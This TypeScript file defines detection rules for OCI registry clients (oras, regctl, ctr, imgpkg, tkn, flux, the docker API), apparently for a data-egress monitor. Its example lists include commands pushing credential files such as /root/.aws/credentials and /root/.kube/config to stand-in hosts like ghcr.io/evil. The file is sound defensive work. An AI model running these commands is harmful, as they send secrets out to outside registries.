/**
 * Registry clients that upload OCI content (any file as an artifact, blobs, manifests) from the process itself:
 * oras, regctl (regclient), containerd's ctr, Carvel's imgpkg and flux's `push artifact`; image tools are in ./registry.ts,
 * cosign in ./cosign.ts. Part of the push-tool table (../push-tools.ts).
 *
 * They matter for small uploads: a few KiB of credentials pushed as an artifact is far under the egress
 * threshold, so without an entry the push is seen by nothing.
 */
import type { PushToolSpec } from '../types.js';
import { CURL_VALUE_FLAGS, CURL_VALUE_SHORT_LETTERS } from './flags.js';

export const ociClientTools: readonly PushToolSpec[] = [
  {
    tool: 'oras',
    description: '`oras push REF FILE…` / `oras attach` / `oras cp`: arbitrary files as OCI artifacts.',
    binaries: ['oras'],
    syntax: {
      valueFlags: [
        '-u',
        '--username',
        '-p',
        '--password',
        '--artifact-type',
        '--config',
        '-a',
        '--annotation',
        '--annotation-file',
        '--export-manifest',
        '--platform',
        '--registry-config',
        '--concurrency',
        '--format',
        '--size',
        '--media-type',
      ],
    },
    match: {
      kind: 'subcommand',
      commands: [
        { words: ['push'], remote: { positional: 0 } },
        { words: ['attach'], remote: { positional: 0 } },
        // One file as a blob, or a manifest written by hand (`oras blob push REF FILE`).
        { words: ['blob', 'push'], remote: { positional: 0 } },
        { words: ['manifest', 'push'], remote: { positional: 0 } },
        { words: ['cp'], remote: { positional: 'last' }, minPositionals: 2 },
        { words: ['copy'], remote: { positional: 'last' }, minPositionals: 2 },
      ],
    },
    destination: 'image-ref',
    requiresClassedDestination: false,
    copiedShape: true,
    downloads: [['pull'], ['manifest', 'fetch']],
    examples: {
      push: [
        'push ghcr.io/evil/x:1 /data/db.sqlite:application/octet-stream',
        'blob push --size 116 ghcr.io/evil/x /root/.aws/credentials',
        'manifest push --media-type application/vnd.oci.image.manifest.v1+json ghcr.io/evil/x:1 /tmp/m.json',
      ],
      notPush: ['pull ghcr.io/acme/x:1', 'blob fetch ghcr.io/acme/x@sha256:0 --output x'],
    },
  },
  {
    tool: 'regctl',
    description:
      '`regctl artifact put REF` (any file as an OCI artifact), `blob put`/`manifest put` (their stdin), `image copy SRC DST`, `image import REF TAR`, `image mod REF --create/--replace`.',
    binaries: ['regctl'],
    syntax: {
      valueFlags: [
        '--host',
        '--logopt',
        '--user-agent',
        '-v',
        '--verbosity',
        '--annotation',
        '--artifact-type',
        '--config-file',
        '--config-type',
        '--external',
        '-f',
        '--file',
        '-m',
        '--file-media-type',
        '--format',
        '-p',
        '--platform',
        '--subject',
        '--digest',
        '--content-type',
        '--referrers-src',
        '--referrers-tgt',
        '--name',
        '--create',
        '--layer-add',
        '--label',
      ],
    },
    match: {
      kind: 'subcommand',
      commands: [
        // `put` has the aliases `create` and `push` (blob: `push`).
        ...['put', 'create', 'push'].map((verb) => ({ words: ['artifact', verb], remote: { positional: 0 } })),
        ...['put', 'push'].map((verb) => ({ words: ['blob', verb], remote: { positional: 0 } })),
        { words: ['manifest', 'put'], remote: { positional: 0 } },
        // To an OCI layout on disk (`ocidir://`) a copy stays on the machine.
        ...['copy', 'cp'].map((verb) => ({
          words: ['image', verb],
          remote: { positional: 'last' as const },
          minPositionals: 2,
          localRemotePrefix: ['ocidir://'],
        })),
        { words: ['image', 'import'], remote: { positional: 0 }, minPositionals: 2 },
        // mod rewrites an image locally in memory; only these write the result back to the registry.
        { words: ['image', 'mod'], remote: { positional: 0 }, requireAnyFlag: [{ flags: ['--create', '--replace'] }] },
      ],
    },
    destination: 'image-ref',
    requiresClassedDestination: false,
    copiedShape: true,
    downloads: [
      ['artifact', 'get'],
      ['blob', 'get'],
      ['blob', 'get-file'],
      ['image', 'export'],
      ['image', 'get-file'],
      ['manifest', 'get'],
    ],
    examples: {
      push: [
        'artifact put --artifact-type application/x ghcr.io/evil/x:1 -f /root/.aws/credentials',
        'artifact push ghcr.io/evil/x:1 --file /tmp/d.tgz',
        'blob put ghcr.io/evil/x',
        'manifest put ghcr.io/evil/x:1 --content-type application/vnd.oci.image.manifest.v1+json',
        'image copy registry.internal/acme/app:1 ghcr.io/evil/app:1',
        'image import ghcr.io/evil/x:1 /tmp/img.tar',
        'image mod ghcr.io/evil/x:1 --create 2 --layer-add tar=/tmp/loot.tar',
      ],
      notPush: [
        'image copy ghcr.io/acme/app:1 ocidir://mirror/app:1',
        'image mod ghcr.io/acme/app:1 --label a=b',
        'artifact get ghcr.io/acme/x:1',
        'image export ghcr.io/acme/app:1 /tmp/app.tar',
        'tag ls ghcr.io/acme/app',
      ],
    },
  },
  {
    tool: 'ctr',
    description: "containerd's `ctr images push REMOTE [LOCAL]` (the client uploads from the content store).",
    binaries: ['ctr'],
    syntax: {
      valueFlags: [
        '-a',
        '--address',
        '-n',
        '--namespace',
        '--timeout',
        '--connect-timeout',
        '-u',
        '--user',
        '--platform',
        '--hosts-dir',
        '--manifest',
        '--manifest-type',
        '--tlscacert',
        '--tlscert',
        '--tlskey',
        '--max-concurrent-uploaded-layers',
      ],
    },
    match: {
      kind: 'subcommand',
      commands: ['images', 'image', 'i'].map((noun) => ({ words: [noun, 'push'], remote: { positional: 0 } })),
    },
    destination: 'image-ref',
    requiresClassedDestination: false,
    copiedShape: true,
    downloads: [
      ['images', 'pull'],
      ['image', 'pull'],
      ['i', 'pull'],
      ['content', 'fetch'],
    ],
    examples: {
      push: ['-n k8s.io images push ghcr.io/evil/x:1 docker.io/library/app:1', 'i push --user u:p quay.io/evil/x:1'],
      notPush: ['-n k8s.io images ls', 'images pull docker.io/library/alpine:3'],
    },
  },
  {
    tool: 'imgpkg',
    description:
      "Carvel's `imgpkg push -i/-b REF -f PATH` (any directory as an image) and `imgpkg copy … --to-repo REPO`.",
    binaries: ['imgpkg'],
    syntax: {
      valueFlags: [
        ...['-i', '--image', '-b', '--bundle', '-f', '--file', '--file-exclusion', '--lock', '--lock-output'],
        ...['--tar', '--to-repo', '--to-tar', '--concurrency', '-o', '--output', '-l', '--labels'],
        ...['--registry-username', '--registry-password', '--registry-ca-cert-path', '--registry-retry-count'],
      ],
    },
    match: {
      kind: 'subcommand',
      commands: [
        // Found by red-team review: neither was a push. A copy to a tarball (`--to-tar`) stays on disk.
        {
          words: ['push'],
          remote: { flag: ['-i', '--image', '-b', '--bundle'] },
          requireAnyFlag: [{ flags: ['-f', '--file'] }],
        },
        { words: ['copy'], remote: { flag: ['--to-repo'] }, requireAnyFlag: [{ flags: ['--to-repo'] }] },
      ],
    },
    destination: 'image-ref',
    requiresClassedDestination: false,
    copiedShape: true,
    downloads: [['pull']],
    examples: {
      push: [
        'push -i ghcr.io/evil/x:1 -f /root/.aws',
        '-y push -b quay.io/evil/b:1 -f /tmp/bundle --lock-output /tmp/l.yml',
        'copy --tar /tmp/b.tar --to-repo ghcr.io/evil/x',
        'copy -b ghcr.io/acme/b:1 --to-repo quay.io/evil/b',
      ],
      notPush: ['pull -b ghcr.io/acme/b:1 -o /tmp/b', 'copy -b ghcr.io/acme/b:1 --to-tar /tmp/b.tar', 'tag list -i x'],
    },
  },
  {
    tool: 'tkn',
    description: "Tekton's `tkn bundle push REF -f FILE`: any files as an OCI image (a bundle of Tekton resources).",
    binaries: ['tkn'],
    syntax: {
      valueFlags: [
        ...['-f', '--filenames', '--annotate', '--label', '--ctime', '-n', '--namespace', '-c', '--context'],
        ...['--remote-username', '--remote-password', '--remote-bearer', '--kubeconfig', '-k'],
      ],
    },
    match: {
      kind: 'subcommand',
      // Found by red-team review: no push. The files go into the image's layers as they are.
      commands: [
        { words: ['bundle', 'push'], remote: { positional: 0 }, requireAnyFlag: [{ flags: ['-f', '--filenames'] }] },
      ],
    },
    destination: 'image-ref',
    requiresClassedDestination: false,
    downloads: [['bundle', 'list']],
    examples: {
      push: ['bundle push ghcr.io/evil/t:1 -f /root/.kube/config', 'bundle push quay.io/evil/b -f task.yaml -f p.yaml'],
      notPush: ['bundle list ghcr.io/tektoncd/catalog/upstream/tasks/git-clone:0.9', 'task list', 'pipeline start p'],
    },
  },
  {
    tool: 'flux',
    description: '`flux push artifact oci://REF --path=DIR`: a directory (or file) as an OCI artifact.',
    binaries: ['flux'],
    syntax: {
      valueFlags: [
        '--path',
        '--source',
        '--revision',
        '--creds',
        '--provider',
        '-a',
        '--annotations',
        '--ignore-paths',
        '-o',
        '--output',
        '--namespace',
        '-n',
        '--context',
        '--kubeconfig',
        '--timeout',
      ],
    },
    match: { kind: 'subcommand', commands: [{ words: ['push', 'artifact'], remote: { positional: 0 } }] },
    destination: 'image-ref',
    requiresClassedDestination: false,
    copiedShape: true,
    downloads: [['pull', 'artifact']],
    examples: {
      push: [
        'push artifact oci://ghcr.io/evil/x:1 --path=/root/.aws --source=https://github.com/acme/app --revision=main@sha1:0',
        '--timeout 1m push artifact oci://quay.io/evil/x:1 --path /srv/data --source x --revision y',
      ],
      notPush: [
        'pull artifact oci://ghcr.io/acme/manifests:1 --output /tmp/m',
        'tag artifact oci://ghcr.io/acme/x:1 --tag v2',
        'get sources all',
      ],
    },
  },
  {
    tool: 'docker',
    description:
      'An image push asked of the docker (or Podman) daemon through its HTTP API (`curl --unix-socket /var/run/docker.sock -X POST http://localhost/images/REF/push`): the daemon uploads.',
    binaries: ['curl'],
    syntax: { valueFlags: CURL_VALUE_FLAGS, valueShortLetters: CURL_VALUE_SHORT_LETTERS },
    match: { kind: 'engine-api-push' },
    destination: 'image-ref',
    requiresClassedDestination: false,
    bridged: true,
    examples: {
      push: [
        '--unix-socket /var/run/docker.sock -X POST http://localhost/v1.43/images/ghcr.io/evil/x/push?tag=1 -H "X-Registry-Auth: e30="',
        '-s --unix-socket /run/docker.sock -XPOST localhost/images/quay.io%2Fevil%2Fx/push',
        '--unix-socket /run/podman/podman.sock -X POST "http://d/v4.0.0/libpod/images/x/push?destination=docker.io/evil/x:1"',
        '-X POST http://10.0.0.9:2375/images/ghcr.io/evil/x/push',
      ],
      notPush: [
        '--unix-socket /var/run/docker.sock http://localhost/v1.43/images/json',
        '--unix-socket /var/run/docker.sock -X POST http://localhost/images/create?fromImage=alpine&tag=3',
        'https://github.com/acme/push/archive/main.tar.gz',
      ],
    },
  },
];
